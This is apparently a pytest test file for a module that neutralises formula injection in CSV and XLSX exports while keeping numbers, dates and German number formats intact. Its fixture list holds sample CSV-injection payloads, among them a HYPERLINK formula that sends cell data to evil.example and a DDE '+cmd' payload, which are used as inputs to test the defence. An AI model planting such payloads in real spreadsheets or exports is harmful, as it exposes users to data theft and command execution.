"""CSV/XLSX exports never hand a spreadsheet a formula, and keep numbers numbers."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from metrics.safe_export import (
    is_formula_like,
    neutralise_cell,
    safe_frame,
    to_csv_bytes,
    to_xlsx_bytes,
)

FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Klick")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "  =1+1",
    "\n@x",
    "-A1",
    "=",
]
HARMLESS = ["Bereich 3", "E 9b", "-3", "-2,5", "-1.234,5", " -12 %", "-", "a=b", "", "ÄÖÜ ß €"]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_plain_negative_numbers_stay(text: str) -> None:
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("value", [-5, -2.5, 0, 3, None, True, date(2024, 1, 1), np.int64(-7)])
def test_non_text_values_are_untouched(value: object) -> None:
    assert neutralise_cell(value) is value


def test_safe_frame_neutralises_cells_and_labels_and_keeps_numbers() -> None:
    frame = pd.DataFrame(
        {
            "org_unit": ["=HYPERLINK(1)", "Bereich 1", None],
            "=evil": [1, -2, 3],
            "share": [-0.5, 1.25, np.nan],
            "kind": pd.Categorical(["@x", "a", "a"]),
        },
        index=pd.Index(["+i", "b", "c"], name="unit"),
    )
    safe = safe_frame(frame)
    assert safe["org_unit"].tolist()[:2] == ["'=HYPERLINK(1)", "Bereich 1"]
    assert pd.isna(safe["org_unit"].iloc[2])
    assert list(safe.columns) == ["org_unit", "'=evil", "share", "kind"]
    assert safe["'=evil"].tolist() == [1, -2, 3]
    assert safe["'=evil"].dtype == frame["=evil"].dtype
    assert safe["kind"].tolist() == ["'@x", "a", "a"]
    assert list(safe.index) == ["'+i", "b", "c"]
    assert frame.loc["+i", "org_unit"] == "=HYPERLINK(1)", "the input frame is not changed"


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Organisationseinheit": [
                "Markt & Integration",
                '=HYPERLINK("x")',
                "+cmd",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
            ],
            "Anteil": [12.5, -3.25, 0.0, 1.0, 2.0, 3.0],
            "Anzahl": [-2, 10, 0, 1, 2, 3],
            "Stichtag": [pd.Timestamp(2024, 12, 31)] * 6,
        }
    )


def test_csv_german_excel_dialect() -> None:
    data = to_csv_bytes(_frame(), "de")
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[0] == "Organisationseinheit;Anteil;Anzahl;Stichtag"
    assert lines[1] == "Markt & Integration;12,5;-2;31.12.2024"
    assert lines[2] == '"\'=HYPERLINK(""x"")";-3,25;10;31.12.2024'
    assert lines[3].startswith("'+cmd;") and lines[4].startswith("'-2+3;")
    assert lines[5].startswith("'@SUM(A1);")
    assert lines[6].startswith("'\t=1;")
    # read back as Excel would: every cell either a number or text not starting a formula
    back = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig")
    assert back["Anzahl"].tolist() == [-2, 10, 0, 1, 2, 3]
    assert back["Anteil"].tolist()[:2] == [12.5, -3.25]
    assert not any(is_formula_like(v) for v in back["Organisationseinheit"])


def test_csv_numbers_beside_signs_get_the_decimal_comma_too() -> None:
    """A share column with a withheld cell holds numbers and text: pandas wrote "10.37" there
    in a German CSV (its decimal option reaches columns of numbers alone), which German Excel
    reads as text or as a date."""
    frame = pd.DataFrame(
        {
            "Gruppe": ["Teamleitung", "Bereichsleitung", "Referat"],
            "Frauenanteil (%)": pd.Series([10.37, "•", 50.0], dtype=object),
            "Frauen": pd.Series([1060, "< 5", None], dtype=object),
        }
    )
    german = to_csv_bytes(frame, "de").decode("utf-8-sig")
    assert german == (
        "Gruppe;Frauenanteil (%);Frauen\r\n"
        "Teamleitung;10,37;1060\r\n"
        "Bereichsleitung;•;< 5\r\n"
        "Referat;50,0;\r\n"
    )
    english = to_csv_bytes(frame, "en").decode("utf-8-sig")
    assert english.split("\r\n")[1:3] == ["Teamleitung,10.37,1060", "Bereichsleitung,•,< 5"]


def test_csv_english_dialect_keeps_umlauts() -> None:
    frame = pd.DataFrame({"Bereich": ["Geschäftsführung"], "share": [0.5]})
    data = to_csv_bytes(frame, "en")
    assert data.decode("utf-8-sig") == "Bereich,share\r\nGeschäftsführung,0.5\r\n"


def test_xlsx_cells_are_neutralised_strings_and_numbers_stay_numbers() -> None:
    data = to_xlsx_bytes({"Überblick": _frame(), "=evil sheet/name?": pd.DataFrame({"a": [1]})})
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Überblick", "=evil sheet_name_"]
    sheet = workbook["Überblick"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Organisationseinheit", "Anteil", "Anzahl", "Stichtag")
    assert rows[1] == ("Markt & Integration", 12.5, -2, datetime(2024, 12, 31))
    assert [r[0] for r in rows[2:]] == ['\'=HYPERLINK("x")', "'+cmd", "'-2+3", "'@SUM(A1)", "'\t=1"]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and not is_formula_like(cell.value)
    # and no formula element anywhere in the file
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(
            b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets
        )


def test_xlsx_handles_missing_values_control_characters_and_long_text() -> None:
    frame = pd.DataFrame(
        {
            "text": ["a\x00b\x07c", "x" * 40_000, None],
            "number": [np.nan, np.inf, 1.5],
            "count": pd.array([1, None, 3], dtype="Int64"),
            "when": [
                pd.NaT,
                pd.Timestamp("2024-01-01", tz="Europe/Berlin"),
                pd.Timestamp(2024, 2, 1),
            ],
        }
    )
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"t": frame})))
    rows = list(workbook.active.iter_rows(values_only=True))
    assert rows[1][0] == "abc" and rows[1][1] is None and rows[1][3] is None
    assert len(rows[2][0]) == 32_767 and rows[2][1] is None and rows[2][2] is None
    assert rows[3] == (None, 1.5, 3, datetime(2024, 2, 1))


def test_xlsx_sheet_names_are_unique_and_valid() -> None:
    frames = {
        "A" * 40: pd.DataFrame({"x": [1]}),
        "a" * 40: pd.DataFrame({"x": [2]}),
        "": pd.DataFrame({"x": [3]}),
    }
    names = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frames))).sheetnames
    assert len(set(n.lower() for n in names)) == 3 and all(len(n) <= 31 for n in names)


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(max_size=20))
def test_no_neutralised_text_is_formula_like(text: str) -> None:
    safe = neutralise_cell(text)
    assert isinstance(safe, str) and not is_formula_like(safe)
    assert safe in (text, "'" + text)


def test_a_download_is_named_for_what_it_shows() -> None:
    """Downloads were "sb_quota.png" and "table_sb_notice.csv", whatever year and carrier."""
    from metrics.downloads import file_stem

    assert file_stem("sb_quota", 2025, "BA", None, "de") == "sb_quota_2025_BA_de"
    assert file_stem("table_sb_notice", 2024, None, None, "en") == "table_sb_notice_2024_alle_en"
    assert (
        file_stem("breakdown_part_time_share", 2025, "Kommune", "org_unit", "de")
        == "breakdown_part_time_share_2025_Kommune_org_unit_de"
    )
